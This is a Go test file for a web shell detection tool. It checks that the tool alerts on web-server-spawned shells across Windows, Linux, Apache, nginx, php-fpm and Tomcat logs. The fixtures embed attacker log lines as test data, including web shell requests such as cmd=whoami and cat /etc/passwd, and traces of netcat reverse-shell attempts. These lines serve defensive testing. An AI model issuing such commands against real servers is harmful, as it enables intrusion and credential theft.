package hunt_test

import (
	"bytes"
	"compress/gzip"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"iter"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"webshellbeat/config"
	"webshellbeat/detection"
	"webshellbeat/detector"
	"webshellbeat/hunt"
	"webshellbeat/internal/testfiles"
	"webshellbeat/module/windows"
)

const data = "../../shared/data/"

// huntPaths runs a hunt with the built-in rules and returns its alerts.
func huntPaths(t *testing.T, paths ...string) ([]map[string]any, hunt.Stats) {
	t.Helper()
	return huntWith(t, config.Default(), paths...)
}

// huntRules runs a hunt with the rules of one file or folder instead of the
// built-in pack and returns the names of the rules its alerts carry.
func huntRules(t *testing.T, rules string, paths ...string) []string {
	t.Helper()
	cfg := config.Default()
	cfg.Rules = config.Rules{Paths: []string{rules}}
	alerts, _ := huntWith(t, cfg, paths...)
	return titles(alerts)
}

// titles lists the rule names of alerts.
func titles(alerts []map[string]any) []string {
	var out []string
	for _, a := range alerts {
		out = append(out, detection.LookupStrings(a, "rule.name")...)
	}
	return out
}

func huntWith(t *testing.T, cfg config.Detection, paths ...string) ([]map[string]any, hunt.Stats) {
	t.Helper()
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var alerts []map[string]any
	st, err := hunt.Run(paths, det, func(doc map[string]any) { alerts = append(alerts, doc) }, nil)
	if err != nil {
		t.Fatal(err)
	}
	return alerts, st
}

// huntWithRules hunts paths with the given rule files or folders only (no
// built-in pack) and returns the alerts.
func huntWithRules(t *testing.T, rules []string, paths ...string) []map[string]any {
	t.Helper()
	cfg := config.Default()
	cfg.Rules.Builtin, cfg.Rules.Paths = false, rules
	alerts, _ := huntWith(t, cfg, paths...)
	return alerts
}

func str(doc map[string]any, path string) string { return detection.LookupString(doc, path) }

func ruleIDs(doc map[string]any) []string {
	v, _ := detection.Lookup(doc, "webshell.rule_ids")
	ids, _ := v.([]string)
	return ids
}

// The seed samples: one alert per sample, with the process fields the source
// has and the seed rules' ids where they apply.
func TestSeedSamples(t *testing.T) {
	alerts, st := huntPaths(t, data+"seed")
	if st.Files != 4 || st.Events != 4 || st.Errors != 0 {
		t.Fatalf("stats = %+v, want 4 files, 4 events, 0 errors", st)
	}
	byFile := map[string]map[string]any{}
	for _, a := range alerts {
		if str(a, "event.kind") != "alert" {
			t.Errorf("alert with event.kind %q", str(a, "event.kind"))
		}
		switch {
		case str(a, "winlog.channel") == "Security":
			byFile["4688"] = a
		case str(a, "event.module") == "sysmon":
			byFile["sysmon"] = a
		case str(a, "event.module") == "auditd":
			byFile["audit"] = a
		case str(a, "url.original") != "":
			byFile["apache"] = a
		}
	}
	if len(byFile) != 4 {
		t.Fatalf("alerts by sample = %v, want one for each of 4688, sysmon, audit, apache", keys(byFile))
	}
	for _, name := range []string{"4688", "sysmon"} {
		a := byFile[name]
		if str(a, "process.parent.name") != "w3wp.exe" || str(a, "process.name") != "cmd.exe" || str(a, "process.command_line") != "cmd.exe /c whoami" {
			t.Errorf("%s: process = %s -> %s %q", name, str(a, "process.parent.name"), str(a, "process.name"), str(a, "process.command_line"))
		}
		if !slices.Contains(ruleIDs(a), "z12345678-abcd901234-abc567890123") {
			t.Errorf("%s: rule ids %v lack the seed Windows rule", name, ruleIDs(a))
		}
	}
	if a := byFile["audit"]; str(a, "process.name") != "bash" || str(a, "process.command_line") != "bash -c whoami" {
		t.Errorf("audit: process %q %q", str(a, "process.name"), str(a, "process.command_line"))
	}
	a := byFile["apache"]
	if sev, _ := detection.Lookup(a, "event.severity"); str(a, "url.path") != "/shell.php" || sev != 73 {
		t.Errorf("apache: %s severity %v, want /shell.php at 73 (high)", str(a, "url.path"), sev)
	}
}

// Every attack-command request of the Linux capture has its shell alerted, on
// both servers; the benign status.php shell gets nothing high.
func TestLinuxCapture(t *testing.T) {
	alerts, _ := huntPaths(t, data+"linux-capture")
	shells := map[string]int{} // command line of sh -c -> highest severity
	for _, a := range alerts {
		if str(a, "event.module") != "auditd" || !strings.HasPrefix(str(a, "process.command_line"), "sh -c ") {
			continue
		}
		sev, _ := detection.Lookup(a, "event.severity")
		cmd := strings.TrimPrefix(str(a, "process.command_line"), "sh -c ")
		shells[cmd] = max(shells[cmd], sev.(int))
	}
	gt, err := os.ReadFile(data + "linux-capture/ground-truth.tsv")
	if err != nil {
		t.Fatal(err)
	}
	attacks := 0
	for _, line := range strings.Split(strings.TrimSpace(string(gt)), "\n")[1:] {
		f := strings.Split(line, "\t")
		if f[2] != "attack-command" {
			continue
		}
		attacks++
		// "-G --data-urlencode cmd=whoami http://..." -> "whoami"
		req := f[3]
		cmd := req[strings.Index(req, "=")+1 : strings.LastIndex(req, " http")]
		if _, ok := shells[cmd]; !ok {
			t.Errorf("%s attack %q: no alert on its shell", f[1], cmd)
		}
	}
	if attacks != 14 {
		t.Fatalf("ground truth has %d attack-command requests, want 14", attacks)
	}
	if sev := shells["/usr/bin/uptime"]; sev == 0 || sev >= 73 {
		t.Errorf("benign status.php shell: severity %d, want an alert below high", sev)
	}
	// The one upload of the capture (apache2 writing uploads/shell.php) is
	// the one script write alerted, at the rule's level (medium): it starts
	// a session of its own, not a later step of the worker's status.php.
	var writes []string
	for _, a := range alerts {
		if slices.Contains(ruleIDs(a), "20c04b82-a4c5-4699-a858-32f57e48b0ca") {
			sev, _ := detection.Lookup(a, "event.severity")
			writes = append(writes, fmt.Sprintf("%s %s %v", str(a, "process.name"), str(a, "file.path"), sev))
		}
	}
	if !slices.Equal(writes, []string{"apache2 /srv/capture/apache/uploads/shell.php 47"}) {
		t.Errorf("script writes alerted (process, file, severity): %q", writes)
	}
}

// Web-server-parented process creations in real attack samples, and none in
// benign Sysmon logs or the wmiexec lateral movement (cmd -> whoami without
// a web server).
func TestWindowsSamples(t *testing.T) {
	tests := []struct {
		name  string
		path  string
		pairs []string // parent -> child that must be among the alerts
		none  bool
	}{
		{name: "IIS web shell", path: data + "sbousseaden-EVTX-ATTACK-SAMPLES/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx", pairs: []string{"w3wp.exe -> cmd.exe"}},
		{name: "rotten potato from web shell", path: data + "sbousseaden-EVTX-ATTACK-SAMPLES/Privilege Escalation/privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx", pairs: []string{"w3wp.exe -> notepad.exe"}},
		{name: "ProxyLogon", path: data + "OTRF-Security-Datasets/datasets/atomic/windows/persistence/host/proxylogon_ssrf_rce_poc.zip", pairs: []string{"w3wp.exe -> cmd.exe"}},
		{name: "React2Shell", path: data + "SigmaHQ-sigma/regression_data/rules-emerging-threats/2025/Exploits/CVE-2025-55182", pairs: []string{"node.exe -> cmd.exe"}},
		{name: "benign sysmon", path: data + "omerbenamram-evtx/samples/sysmon.evtx", none: true},
		{name: "wmiexec", path: data + "sbousseaden-EVTX-ATTACK-SAMPLES/Lateral Movement/LM_wmiexec_impacket_sysmon_whoami.evtx", none: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			alerts, st := huntPaths(t, tt.path)
			if st.Events == 0 {
				t.Fatalf("read no event from %s", tt.path)
			}
			if tt.none {
				for _, a := range alerts {
					t.Errorf("unexpected alert %v: %s -> %s", a["message"], str(a, "process.parent.name"), str(a, "process.command_line"))
				}
				return
			}
			var got []string
			for _, a := range alerts {
				got = append(got, strings.ToLower(str(a, "process.parent.name")+" -> "+str(a, "process.name")))
			}
			for _, want := range tt.pairs {
				if !slices.Contains(got, want) {
					t.Errorf("no alert for %s among %v", want, got)
				}
			}
		})
	}
}

// Files given together are read in event-time order across files.
func TestMergeOrder(t *testing.T) {
	var times []int64
	det, _ := detector.New(config.Default())
	_, err := hunt.Run([]string{data + "linux-capture/apache_access.log", data + "linux-capture/nginx_access.log"}, detectorFunc(func(doc map[string]any) bool {
		times = append(times, docTime(doc))
		return det.Detect(doc)
	}), func(map[string]any) {}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(times) != 31 || !slices.IsSorted(times) {
		t.Errorf("read %d events, sorted=%v; want 31 in time order", len(times), slices.IsSorted(times))
	}
}

// Bad input: a named file of an unknown format, or a missing path, is an
// error that does not stop the hunt; malformed records are reported with
// where and why, and the rest of the file is read.
func TestBadInput(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	unknown := write("notes.bin", "hello world\n")
	det, _ := detector.New(config.Default())
	if _, err := hunt.Run([]string{unknown}, det, func(map[string]any) {}, nil); err == nil || !strings.Contains(err.Error(), "not a log format") {
		t.Errorf("unknown format: err = %v", err)
	}
	// hunt /var/log/*: dpkg's log (no format hunt reads) and a vanished
	// path beside an access log. Both are reported, and the access log is
	// hunted.
	dpkgLog := write("dpkg.log", "2025-06-10 02:30:00 status installed nginx:amd64 1.22.1-9\n")
	shell := write("access.log.2", `1.2.3.4 - - [10/Jun/2025:02:30:00 +0000] "GET /a.php?cmd=whoami HTTP/1.1" 200 12 "-" "curl"`+"\n")
	alerts := 0
	st, err := hunt.Run([]string{dpkgLog, filepath.Join(dir, "gone.log"), shell}, det, func(map[string]any) { alerts++ }, nil)
	if err == nil || !strings.Contains(err.Error(), "dpkg.log: not a log format") || !strings.Contains(err.Error(), "gone.log: no such file") {
		t.Errorf("bad paths among good: err = %v", err)
	}
	if st.Files != 1 || st.Events != 1 || alerts != 1 {
		t.Errorf("bad paths among good: the access log was not hunted: %d alerts, stats %+v", alerts, st)
	}
	// In a folder, a file of no known format is skipped and named, an empty
	// one and notes only counted.
	sub := filepath.Join(dir, "nginx")
	for name, text := range map[string]string{"dpkg.log": "2025-06-10 02:30:00 startup archives unpack\n", "access.log.9": "", "README.md": "# notes\n"} {
		if err := os.MkdirAll(sub, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(sub, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if st, err := hunt.Run([]string{sub}, det, func(map[string]any) {}, nil); err != nil || len(st.Skipped) != 3 || !slices.Equal(st.Unrecognized, []string{filepath.Join(sub, "dpkg.log")}) {
		t.Errorf("folder: %v, skipped %v, unrecognized %v", err, st.Skipped, st.Unrecognized)
	}
	// An empty file (a log just rotated) is skipped, even when named.
	if st, err := hunt.Run([]string{write("access.log.1", ""), write("blank.log", "\n\n")}, det, func(map[string]any) {}, nil); err != nil || len(st.Skipped) != 2 || st.Files != 0 {
		t.Errorf("empty files: %v, stats %+v", err, st)
	}
	access := write("access.log", `1.2.3.4 - - [10/Jun/2025:02:30:00 +0000] "GET /a.php?cmd=whoami HTTP/1.1" 200 12 "-" "curl"
1.2.3.4 - - [10/Jun/2025:02:30:01 +0000] "GET /broken
1.2.3.4 - - [10/Jun/2025:02:30:02 +0000] "GET /b.php?cmd=id HTTP/1.1" 200 12 "-" "curl"
`)
	ndjson := write("events.json", `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h","Image":"C:\\Windows\\System32\\cmd.exe","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe","CommandLine":"cmd /c whoami","@timestamp":"2025-06-10T02:30:00Z"}
{"EventID": 1, "Image": "unterminated
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h","Image":"C:\\Windows\\System32\\cmd.exe","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe","CommandLine":"cmd /c ipconfig","@timestamp":"2025-06-10T02:30:05Z"}
`)
	// nginx's escape=json log_format, and one written with nginx's default
	// escapes (\xHH), which are not JSON.
	nginxJSON := write("nginx-access.json", `{"time_local":"10/Jun/2025:02:30:00 +0000","remote_addr":"1.2.3.4","request":"GET /a.php?cmd=whoami HTTP/1.1","status":200,"body_bytes_sent":12,"http_user_agent":"curl"}
{"time_local":"10/Jun/2025:02:30:01 +0000","remote_addr":"1.2.3.4","request":"GET /b.php HTTP/1.1","status":"OK"}
{"@timestamp":"2025-06-10T02:30:02+00:00","client_ip":"1.2.3.4","method":"GET","request_uri":"/b.php?cmd=id","status":"200","user_agent":"a \x22quoted\x22 agent"}
`)
	audit := write("audit.log", "type=SYSCALL msg=audit(1623379200.123:456): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=33 euid=33 comm=\"sh\" exe=\"/bin/sh\"\nthis is not an audit record\ntype=EXECVE msg=audit(1623379200.123:456): argc=3 a0=\"sh\" a1=\"-c\" a2=\"id\"\n")
	for _, tt := range []struct {
		path       string
		wantAlerts int
		wantErrIn  string
	}{
		{access, 2, "access.log:2"},
		{ndjson, 2, "events.json:2"},
		{nginxJSON, 2, `nginx-access.json:2: access log json: status "OK" is not a 3-digit HTTP status`},
		{audit, 1, "line 2"},
	} {
		t.Run(filepath.Base(tt.path), func(t *testing.T) {
			var errs []hunt.Record
			n := 0
			st, err := hunt.Run([]string{tt.path}, det, func(map[string]any) { n++ }, func(r hunt.Record) { errs = append(errs, r) })
			if err != nil {
				t.Fatal(err)
			}
			if n != tt.wantAlerts || len(errs) != 1 || st.Errors != 1 {
				t.Fatalf("alerts %d (want %d), errors %v", n, tt.wantAlerts, errs)
			}
			if !strings.Contains(errs[0].Err.Error(), tt.wantErrIn) {
				t.Errorf("error %q does not say where (%q)", errs[0].Err, tt.wantErrIn)
			}
			if str(errs[0].Doc, "error.message") == "" || str(errs[0].Doc, "event.original") == "" {
				t.Errorf("error document lacks error.message or event.original: %v", errs[0].Doc)
			}
		})
	}
}

// Long lines: a file whose first 8 KB hold no whole line is no panic, and
// no "not a log format" when its first line is a long request (Apache takes
// request lines up to 8,190 bytes); a line past 10 MiB is cut there and
// reported, and the lines after it are read.
func TestLongLines(t *testing.T) {
	dir := t.TempDir()
	request := func(sec int, target string) string {
		return fmt.Sprintf(`203.0.113.7 - - [26/Nov/2026:10:00:%02d +0000] "GET %s HTTP/1.1" 200 31 "-" "curl/8.5.0"`, sec, target) + "\n"
	}
	noNewline := filepath.Join(dir, "blob")
	testfiles.Write(t, noNewline, strings.Repeat("x", 9000))
	longFirst := filepath.Join(dir, "long-first", "access.log")
	testfiles.Write(t, longFirst, request(1, "/a.php?q="+strings.Repeat("A", 9000))+request(2, "/uploads/shell.php?cmd=whoami"))
	runaway := filepath.Join(dir, "runaway", "access.log")
	testfiles.Write(t, runaway, request(1, "/uploads/shell.php?cmd=id")+request(2, "/a.php?q="+strings.Repeat("A", 11<<20))+request(3, "/uploads/shell.php?cmd=uname"))

	if st, err := hunt.Run([]string{noNewline}, detectorFunc(func(map[string]any) bool { return false }), func(map[string]any) {}, nil); err == nil || !strings.Contains(err.Error(), "not a log format") || st.Files != 0 {
		t.Errorf("a file of one 9,000-byte line: err %v, stats %+v", err, st)
	}
	alerts, st := huntPaths(t, longFirst)
	if len(alerts) != 1 || st.Events != 2 || st.Errors != 0 {
		t.Errorf("access log opening with a 9 KB request: %d alerts, stats %+v; want 1 alert of 2 events", len(alerts), st)
	}
	var errs []hunt.Record
	det, _ := detector.New(config.Default())
	n := 0
	st, err := hunt.Run([]string{runaway}, det, func(map[string]any) { n++ }, func(r hunt.Record) { errs = append(errs, r) })
	if err != nil || n != 2 || len(errs) != 1 {
		t.Fatalf("access log with an 11 MiB line: err %v, %d alerts, errors %v; want 2 alerts and the long line's error", err, n, len(errs))
	}
	if msg := errs[0].Err.Error(); !strings.Contains(msg, "access.log:2") || !strings.Contains(msg, "longer than 10 MiB") {
		t.Errorf("the long line's error %q does not say where and why", msg)
	}
	if got := len(str(errs[0].Doc, "event.original")); got != 10<<20 {
		t.Errorf("the long line's event.original has %d bytes, want its first 10 MiB", got)
	}
}

// In a folder, a link to a file is read and a link to a folder skipped: a
// link to its own parent once recursed until the stack overflowed. A link to
// nothing is skipped (it made hunt /etc exit 1). A folder named on the
// command line may itself be a link. Files that are no events are skipped:
// XML without an Event element (fontconfig's), a program's own ECS log (the
// beats' in /var/log) and JSON of no event shape (a Node.js app's log).
func TestFolderLinksAndNonEvents(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need privileges on Windows")
	}
	dir := t.TempDir()
	logs := filepath.Join(dir, "logs")
	testfiles.Write(t, filepath.Join(logs, "access.log"), `1.2.3.4 - - [10/Jun/2025:02:30:00 +0000] "GET /a.php?cmd=whoami HTTP/1.1" 200 12 "-" "curl"`+"\n")
	testfiles.Write(t, filepath.Join(dir, "elsewhere", "access.log"), `1.2.3.4 - - [10/Jun/2025:02:30:01 +0000] "GET /b.php?cmd=id HTTP/1.1" 200 12 "-" "curl"`+"\n")
	testfiles.Write(t, filepath.Join(logs, "fonts.conf"), "<?xml version=\"1.0\"?>\n<!DOCTYPE fontconfig SYSTEM \"urn:fontconfig:fonts.dtd\">\n<fontconfig>\n</fontconfig>\n")
	testfiles.Write(t, filepath.Join(logs, "webshellbeat", "webshellbeat-20261126.ndjson"), `{"log.level":"info","@timestamp":"2026-11-26T12:42:38.032Z","message":"Home path: [/usr/share/webshellbeat]","service.name":"webshellbeat","ecs.version":"1.6.0"}`+"\n")
	testfiles.Write(t, filepath.Join(logs, "app", "app.json"), `{"level":30,"time":1764151200000,"pid":7,"hostname":"web1","msg":"listening on 3000"}`+"\n")
	for link, target := range map[string]string{"loop": ".", "up": "..", "current.log": "access.log", "dangling.log": "gone.log"} {
		if err := os.Symlink(target, filepath.Join(logs, link)); err != nil {
			t.Fatal(err)
		}
	}
	alerts, st := huntPaths(t, logs)
	if len(alerts) != 2 || st.Files != 2 || st.Errors != 0 {
		t.Errorf("folder with links: %d alerts, stats %+v; want the access log and its link, 2 alerts", len(alerts), st)
	}
	for _, want := range []string{"loop", "up", "dangling.log", "fonts.conf", "webshellbeat-20261126.ndjson", "app.json"} {
		if !slices.ContainsFunc(st.Skipped, func(p string) bool { return filepath.Base(p) == want }) {
			t.Errorf("%s not skipped: skipped %v", want, st.Skipped)
		}
	}
	named := filepath.Join(dir, "named")
	if err := os.Symlink(filepath.Join(dir, "elsewhere"), named); err != nil {
		t.Fatal(err)
	}
	if alerts, st := huntPaths(t, named); len(alerts) != 1 || st.Files != 1 {
		t.Errorf("a named link to a folder: %d alerts, stats %+v; want its access log read", len(alerts), st)
	}
}

// A path that is a pattern and no file (what Windows' shells pass on) is
// expanded; one that matches nothing is reported.
func TestGlobPaths(t *testing.T) {
	dir := t.TempDir()
	for i, name := range []string{"access.log", "access.log.1", "error.txt"} {
		testfiles.Write(t, filepath.Join(dir, name), fmt.Sprintf(`1.2.3.4 - - [10/Jun/2025:02:30:0%d +0000] "GET /a.php?cmd=whoami HTTP/1.1" 200 12 "-" "curl"`+"\n", i))
	}
	_, st := huntPaths(t, filepath.Join(dir, "access.log*"))
	if st.Files != 2 {
		t.Errorf("access.log*: %d files, want 2", st.Files)
	}
	det, _ := detector.New(config.Default())
	if st, err := hunt.Run([]string{filepath.Join(dir, "*.evtx")}, det, func(map[string]any) {}, nil); err == nil || st.Files != 0 {
		t.Errorf("*.evtx matching nothing: err %v, %d files", err, st.Files)
	}
}

type detectorFunc func(map[string]any) bool

func (f detectorFunc) Detect(doc map[string]any) bool { return f(doc) }

func keys(m map[string]map[string]any) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// Merge reads each stream ahead in its own goroutine; stopping early (the
// consumer breaks) stops every reader before Merge returns, each having read
// at most its read-ahead beyond what was consumed, and the order is the
// time order with ties in stream order.
func TestMergeStopsReaders(t *testing.T) {
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	var produced [3]atomic.Int64
	stream := func(i int) iter.Seq[hunt.Record] {
		return func(yield func(hunt.Record) bool) {
			for n := 0; n < 100000; n++ {
				produced[i].Add(1)
				doc := map[string]any{"@timestamp": base.Add(time.Duration(n) * time.Second), "stream": i}
				if !yield(hunt.Record{Doc: doc}) {
					return
				}
			}
		}
	}
	var got []int
	for rec := range hunt.Merge([]iter.Seq[hunt.Record]{stream(0), stream(1), stream(2)}) {
		got = append(got, rec.Doc["stream"].(int))
		if len(got) == 7 {
			break
		}
	}
	if !slices.Equal(got, []int{0, 1, 2, 0, 1, 2, 0}) {
		t.Errorf("merged order %v", got)
	}
	after := [3]int64{}
	for i := range produced {
		after[i] = produced[i].Load()
		if after[i] > 200 {
			t.Errorf("stream %d read %d records for 3 consumed: not bounded by the read-ahead", i, after[i])
		}
	}
	time.Sleep(50 * time.Millisecond)
	for i := range produced {
		if n := produced[i].Load(); n != after[i] {
			t.Errorf("stream %d kept reading after Merge returned: %d -> %d", i, after[i], n)
		}
	}
}

// PowerShell script block logging (4104) routes to Sigma's ps_script
// category, so SigmaHQ's ScriptBlockText rules run on it, through the
// windows pipeline's fallback to winlog.event_data.
func TestPowerShellScriptBlock(t *testing.T) {
	titles := huntRules(t, data+"SigmaHQ-sigma/rules/windows/powershell/powershell_script", "testdata/powershell-4104.xml")
	for _, want := range []string{"Malicious PowerShell Commandlets - ScriptBlock", "Suspicious PowerShell Invocations - Specific"} {
		if !slices.Contains(titles, want) {
			t.Errorf("alerts %q lack %q", titles, want)
		}
	}
}

// "-" is standard input, recognised like a file (here gzip-compressed).
func TestStdin(t *testing.T) {
	raw, err := os.ReadFile(data + "seed/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	w.Write(raw)
	w.Close()
	in := filepath.Join(t.TempDir(), "in")
	if err := os.WriteFile(in, gz.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(in)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	old := os.Stdin
	os.Stdin = f
	defer func() { os.Stdin = old }()
	alerts, st := huntPaths(t, "-")
	if len(alerts) != 1 || st.Formats[hunt.FormatAudit] != 1 || str(alerts[0], "log.file.path") != "stdin" {
		t.Errorf("alerts %d, stats %+v, log.file.path %q", len(alerts), st, str(alerts[0], "log.file.path"))
	}
}

// An Apache error log with what a web shell's commands print under mod_php:
// each unprefixed line is an event dated by the line before it, and the
// built-in rules raise an alert for the reverse shell's "can't access tty"
// and the missing tool, keeping the line in event.original.
func TestErrorLogAlerts(t *testing.T) {
	path := filepath.Join(t.TempDir(), "error.log")
	text := `[Wed Nov 25 10:00:00.000001 2026] [mpm_prefork:notice] [pid 1] AH00163: Apache/2.4.62 (Debian) configured -- resuming normal operations
[Wed Nov 25 10:05:00.000002 2026] [php:warn] [pid 9] [client 203.0.113.9:4242] PHP Warning:  Undefined array key "c" in /var/www/html/uploads/x.php on line 1
sh: 1: nc: not found
sh: 0: can't access tty; job control turned off
sh: 1: ./x: Permission denied
[Wed Nov 25 10:05:00.000002 2026] [cgi:error] [pid 9] [client 203.0.113.9:4242] AH01215: sh: 1: nc: not found: /usr/lib/cgi-bin/x.cgi
`
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	det, _ := detector.New(config.Default())
	var alerts []map[string]any
	st, err := hunt.Run([]string{path}, det, func(doc map[string]any) { alerts = append(alerts, doc) }, nil)
	if err != nil || st.Events != 6 || st.Errors != 0 || st.Formats[hunt.FormatErrorLog] != 1 {
		t.Fatalf("err %v, stats %+v", err, st)
	}
	want := map[string]string{
		"sh: 1: nc: not found":                                  "Shell Could Not Run a Command in a Web Server Error Log",
		"sh: 1: ./x: Permission denied":                         "Shell Could Not Run a Command in a Web Server Error Log",
		"AH01215: sh: 1: nc: not found: /usr/lib/cgi-bin/x.cgi": "Shell Could Not Run a Command in a Web Server Error Log", // mod_cgi's form
		"sh: 0: can't access tty; job control turned off":       "Shell Without a Terminal in a Web Server Error Log",
	}
	if len(alerts) != len(want) {
		t.Fatalf("%d alerts, want %d: %v", len(alerts), len(want), alerts)
	}
	for _, a := range alerts {
		line := detection.LookupString(a, "event.original") // the whole line, as the beat keeps it
		var title string
		for msg, w := range want {
			if line == msg || strings.HasSuffix(line, "] "+msg) {
				title = w
			}
		}
		if got := detection.LookupString(a, "message"); got != title {
			t.Errorf("alert for %q is %q, want %q", line, got, title)
		}
		if ts, _ := a["@timestamp"].(time.Time); !ts.Equal(time.Date(2026, 11, 25, 10, 5, 0, 2000, time.UTC)) {
			t.Errorf("%q dated %v, want the line before's", line, ts)
		}
	}
	// --timezone Europe/Berlin: the same wall-clock times, an hour earlier in
	// UTC; an access log's times (with their zone) stay.
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Skip(err)
	}
	access := filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(access, []byte(`203.0.113.9 - - [25/Nov/2026:10:04:59 +0100] "GET /uploads/x.php?c=id HTTP/1.1" 200 12 "-" "curl"`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var times []time.Time
	if _, err := hunt.Run([]string{path, access}, detectorFunc(func(doc map[string]any) bool {
		ts, _ := doc["@timestamp"].(time.Time)
		times = append(times, ts)
		return false
	}), func(map[string]any) {}, nil, hunt.InZone(berlin)); err != nil {
		t.Fatal(err)
	}
	wantTimes := []time.Time{time.Date(2026, 11, 25, 9, 0, 0, 1000, time.UTC), time.Date(2026, 11, 25, 9, 4, 59, 0, time.UTC), time.Date(2026, 11, 25, 9, 5, 0, 2000, time.UTC)}
	if len(times) != 7 || !times[0].Equal(wantTimes[0]) || !times[1].Equal(wantTimes[1]) || !times[2].Equal(wantTimes[2]) || !times[6].Equal(wantTimes[2]) {
		t.Errorf("in Berlin's zone, merged: %v; want %v then the unprefixed lines at the last", times, wantTimes)
	}
}

// php-fpm's own log (captured from php-fpm 8.2 behind nginx, its pool
// catching the workers' output), decorated or not: the web shell's missing
// command and its interactive shell raise the two error log alerts, at the
// time of the lines, and nothing else does.
func TestPHPFPMLogAlerts(t *testing.T) {
	for name, at := range map[string]time.Time{
		"php-fpm.log":             time.Date(2026, 11, 26, 11, 1, 58, 0, time.UTC), // the WARNING lines' own time
		"php-fpm-undecorated.log": time.Date(2026, 11, 26, 11, 1, 57, 0, time.UTC), // the NOTICE line's before them
	} {
		alerts, st := huntPaths(t, "../module/errorlog/testdata/"+name)
		if st.Errors != 0 || st.Events != 8 || st.Formats[hunt.FormatErrorLog] != 1 {
			t.Errorf("%s: stats %+v", name, st)
		}
		got := titles(alerts)
		slices.Sort(got)
		if want := []string{"Shell Could Not Run a Command in a Web Server Error Log", "Shell Without a Terminal in a Web Server Error Log"}; !slices.Equal(got, want) {
			t.Errorf("%s: alerts %v, want %v", name, got, want)
		}
		for _, a := range alerts {
			if ts, _ := a["@timestamp"].(time.Time); str(a, "event.dataset") != "php_fpm.error" || !ts.Equal(at) {
				t.Errorf("%s: %v", name, a)
			}
		}
	}
}

// Tomcat's log of a JSP that could not run its programs (captured): hunt
// recognises it, and the built-in pack raises one alert per program, on
// the cause that names it.
func TestTomcatLogAlerts(t *testing.T) {
	const rule = "Java Web Application Could Not Run a Program"
	alerts, st := huntPaths(t, "../module/errorlog/testdata/tomcat-localhost.log")
	var programs []string
	for _, a := range alerts {
		if slices.Contains(detection.LookupStrings(a, "rule.name"), rule) {
			_, after, _ := strings.Cut(str(a, "event.original"), `Cannot run program "`)
			program, _, _ := strings.Cut(after, `"`)
			programs = append(programs, program)
		}
	}
	if !slices.Equal(programs, []string{"nc", "cmd.exe", "/tmp/wsbnoexec"}) || len(alerts) != 3 || st.Formats[hunt.FormatErrorLog] != 1 || st.Errors != 0 {
		t.Errorf("programs %q of %d alerts, stats %+v; want nc, cmd.exe, /tmp/wsbnoexec", programs, len(alerts), st)
	}
}

// PHP's warnings when a command function could not fork, captured under a
// process limit: one alert per call, whatever the function, and one for
// the same warning in nginx's FastCGI stderr, none for another warning
// there; the disabled-function rule stays quiet.
func TestCommandFunctionFailed(t *testing.T) {
	const rule = "PHP Command Function Could Not Start Its Command"
	nginx := filepath.Join(t.TempDir(), "error.log")
	testfiles.Write(t, nginx, `2026/11/26 13:52:37 [error] 812#812: *3 FastCGI sent in stderr: "PHP message: PHP Warning:  system(): Unable to fork [cat /etc/passwd] in /var/www/html/uploads/x.php on line 1" while reading response header from upstream, client: 203.0.113.9, server: _, request: "GET /uploads/x.php?c=cat+/etc/passwd HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "web1"
2026/11/26 13:52:38 [error] 812#812: *4 FastCGI sent in stderr: "PHP message: PHP Warning:  Undefined variable $x in /var/www/html/index.php on line 3" while reading response header from upstream, client: 203.0.113.10, server: _, request: "GET / HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "web1"
`)
	for path, want := range map[string]int{"../module/errorlog/testdata/php-errors-fork-failed.log": 7, nginx: 1} {
		alerts, st := huntPaths(t, path)
		got := 0
		for _, a := range alerts {
			names := detection.LookupStrings(a, "rule.name")
			if slices.Contains(names, rule) {
				got++
			}
			if slices.Contains(names, "PHP Script Called a Disabled Command Function") {
				t.Errorf("%s: disabled-function alert for %q", path, str(a, "event.original"))
			}
		}
		if got != want || st.Errors != 0 {
			t.Errorf("%s: %d %q alerts, want %d; stats %+v", path, got, rule, want, st)
		}
	}
}

// A web shell on a server whose disable_functions removed system(): the
// fatal error it causes, as nginx (FastCGI stderr), php-fpm (a caught
// worker's output) and PHP's error_log logged it from php-fpm 8.2, and as
// Apache's error log and PHP 7 word it, raises the disabled-function alert
// once per call; the same error for an undefined function of the
// application does not, nor does the stack trace.
func TestDisabledCommandFunction(t *testing.T) {
	const rule = "PHP Script Called a Disabled Command Function"
	testdata := "../module/errorlog/testdata/"
	apache := filepath.Join(t.TempDir(), "error.log")
